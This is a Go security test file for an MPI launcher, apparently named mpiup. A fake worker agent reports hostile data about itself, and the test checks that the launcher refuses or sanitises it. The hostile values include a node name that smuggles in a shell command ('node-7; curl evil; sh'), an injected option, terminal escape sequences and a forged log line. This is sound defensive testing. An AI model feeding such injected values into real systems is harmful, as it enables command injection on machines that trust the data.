package attack

import (
	"cmp"
	"context"
	"encoding/json"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"google.golang.org/grpc"
	"google.golang.org/protobuf/proto"

	"github.com/mpiup/mpiup/internal/api/rpc"
	apiv1 "github.com/mpiup/mpiup/internal/api/v1"
	"github.com/mpiup/mpiup/internal/identity"
	"github.com/mpiup/mpiup/internal/wire"
	"github.com/mpiup/mpiup/test/lab"
)

// teller has a worker's certificate and tells a launcher what it likes: of itself, and of the ranks that it was to start.
type teller struct {
	rpc.UnimplementedAgentServer
	host    *apiv1.HelloReply
	tells   []*apiv1.Frame // after the Launch
	waits   *apiv1.Waits   // to each question who waits
	stopped []*apiv1.Frame // after the Stop
	ranks   *apiv1.RanksReply
	peers   *apiv1.PeersReply
	checkup *apiv1.CheckupReply
	refuses error         // each call, if it is one
	opened  *apiv1.Opened // in place of what an agent answers to Open
	mute    bool          // to Open
}

// tell serves it on an address.
func tell(t *testing.T, tls string, is *teller) (addr string) {
	t.Helper()
	return serve(t, tls, is)
}

// serve serves what an agent does on an address.
func serve(t *testing.T, tls string, is rpc.AgentServer) (addr string) {
	t.Helper()
	id, err := identity.Load(identity.Options{TLSDir: tls, Role: identity.RoleAgent, Name: "x", Root: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	addr = lab.Address()
	l, err := net.Listen("tcp", net.JoinHostPort(addr, "16748"))
	if err != nil {
		t.Fatal(err)
	}
	s := grpc.NewServer(grpc.Creds(identity.Transport()))
	rpc.RegisterAgentServer(s, is)
	done := make(chan struct{})
	go func() { defer close(done); s.Serve(handshaking{l, id}) }()
	t.Cleanup(func() { s.Stop(); <-done })
	return addr
}

func (a *teller) Hello(context.Context, *apiv1.HelloRequest) (*apiv1.HelloReply, error) {
	return a.host, a.refuses
}

func (a *teller) Ranks(context.Context, *apiv1.RanksRequest) (*apiv1.RanksReply, error) {
	return a.ranks, a.refuses
}

func (a *teller) Peers(context.Context, *apiv1.PeersRequest) (*apiv1.PeersReply, error) {
	return a.peers, a.refuses
}

func (a *teller) Checkup(context.Context, *apiv1.CheckupRequest) (*apiv1.CheckupReply, error) {
	return a.checkup, a.refuses
}

func (a *teller) Shutdown(context.Context, *apiv1.ShutdownRequest) (*apiv1.ShutdownReply, error) {
	return &apiv1.ShutdownReply{}, a.refuses
}

func (a *teller) Attach(s grpc.BidiStreamingServer[apiv1.Frame, apiv1.Frame]) error {
	if _, err := s.Recv(); err != nil || a.refuses != nil {
		return cmp.Or(err, a.refuses)
	}
	opened := a.opened
	if a.mute {
		<-s.Context().Done()
		return nil
	}
	if opened == nil {
		opened = &apiv1.Opened{Protocol: apiv1.Protocol, Version: a.host.Version, Host: a.host}
	}
	if err := s.Send(opened.Frame()); err != nil {
		return err
	}
	link := wire.NewLink(wire.NewClock())
	_ = link.Run(s.Context(), s, 0, func(f *apiv1.Frame) error { // until the launcher ends the stream
		switch f.Body.(type) {
		case *apiv1.Frame_Launch:
			for _, told := range a.tells {
				_ = link.Send(told)
			}
		case *apiv1.Frame_AskWaits:
			if w := proto.CloneOf(a.waits); w != nil {
				w.Id = f.GetAskWaits().Id
				_ = link.Send(w.Frame())
			}
		case *apiv1.Frame_Stop:
			for _, told := range a.stopped {
				_ = link.Send(told)
			}
		case *apiv1.Frame_Bye:
			_ = link.Send((&apiv1.Closed{}).Frame())
		}
		return nil
	})
	return nil
}

// handshaking is a listener of connections whose TLS handshake is done.
type handshaking struct {
	net.Listener
	id *identity.Identity
}

func (h handshaking) Accept() (net.Conn, error) {
	for {
		raw, err := h.Listener.Accept()
		if err != nil {
			return nil, err
		}
		if c, err := h.id.Accept(context.Background(), raw, h.id.ServerConfig("h2")); err == nil {
			return c, nil
		}
	}
}

const escapes = "x\u009b2J\u202ey\x1b]0;z\x07"

// fallen is what an agent tells of one rank on a host whose GPU fell off the bus, with text of its choice wherever there is any.
func fallen(text string) []*apiv1.Frame {
	return []*apiv1.Frame{
		(&apiv1.Chosen{Pmi: apiv1.Pmi_PMI_NONE, Library: text, Why: text}).Frame(),
		(&apiv1.Started{Pid: 7}).Frame(),
		(&apiv1.Notice{Text: text, Warning: true}).Frame(),
		(&apiv1.Output{Stream: apiv1.Stream_STDERR, Data: []byte("[74889.644138] NVRM: Xid (PCI:0000:02:00): 79, GPU has fallen off the bus. " + escapes + "\n")}).Frame(),
		(&apiv1.Exited{Code: 3, Library: text, Lacking: text}).Frame(),
		(&apiv1.OutputEnd{Frames: []string{text}}).Frame(),
	}
}

// A worker states a node that is a shell command, escape sequences, or 500 KB. It takes part in no run, or what it states is seen for what it
// is: no command has it, no terminal obeys it, and the run's report is written and can be shown.
func TestWhatAWorkerStatesOfItself(t *testing.T) {
	s := newSite(t)
	long := strings.Repeat("n", 500_000)
	for _, tt := range []struct {
		name    string
		host    *apiv1.HelloReply
		refused bool
	}{
		{"a node that is a command", &apiv1.HelloReply{Node: "node-7; curl evil; sh"}, true},
		{"a node that is an option", &apiv1.HelloReply{Node: "--kubeconfig=x"}, true},
		{"a node of two lines", &apiv1.HelloReply{Node: "n\nmpiup: all is well"}, true},
		{"a node of 500 KB", &apiv1.HelloReply{Node: long}, true},
		{"a name of 500 KB", &apiv1.HelloReply{Name: long}, true},
		{"a node and texts that are none", &apiv1.HelloReply{Node: "node-7", Version: escapes, Address: escapes + long, Arch: long, Scope: long,
			Uses: []*apiv1.Use{{Launcher: escapes, Program: long}}, GpuUnits: []*apiv1.GpuUnit{{Uuid: escapes + "; sh", Pci: long}}}, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			tt.host.Incarnation, tt.host.Slots, tt.host.Cpus = strings.Repeat("0f", 16), 1, 1
			addr := tell(t, s.files("mpiup://g/agent/x"), &teller{host: tt.host, tells: fallen(escapes + "; sh\nmpiup: all is well")})
			dir := t.TempDir()
			log := filepath.Join(dir, "termination")
			e := mpiup(t, "run", "--tls-dir="+s.files("mpiup://g/launcher/l"), "--wait", "1", "--host", addr, "-n", "1", "--output", "json",
				"--report", filepath.Join(dir, "report"), "--termination-log", log, "--", "true")
			if tt.refused {
				e.Fails(t, 243, "states a n")
			} else if e.Code != 3 || !strings.Contains(e.Stdout, `"cordon":"kubectl cordon node-7"`) {
				t.Errorf("it ends with %d:\n%s", e.Code, e.Stdout)
			}
			for what, text := range map[string]string{"standard error": e.Stderr, "standard output": e.Stdout, "the termination log": file(t, log),
				"report.json": file(t, filepath.Join(dir, "report", "report.json")), "events.jsonl": file(t, filepath.Join(dir, "report", "events.jsonl"))} {
				if strings.ContainsAny(text, "\u009b\u202e\x1b\x07") || strings.Contains(text, "\nmpiup: all is well") || len(text) > 1<<20 {
					t.Errorf("%s: %d bytes, %.2000q", what, len(text), text)
				}
			}
			if strings.Contains(e.Stdout, "kubectl cordon node-7;") {
				t.Errorf("a command has it: %s", e.Stdout)
			}
			shown := mpiup(t, "report", "--json", filepath.Join(dir, "report"))
			if !json.Valid([]byte(shown.Stdout)) || strings.ContainsAny(shown.Stdout, "\u009b\u202e\x1b\x07") {
				t.Errorf("mpiup report ends with %d:\n%.2000q\n%s", shown.Code, shown.Stdout, shown.Stderr)
			}
		})
	}
}

func file(t *testing.T, name string) string {
	t.Helper()
	text, err := os.ReadFile(name)
	if err != nil {
		t.Error(err)
	}
	return string(text)
}
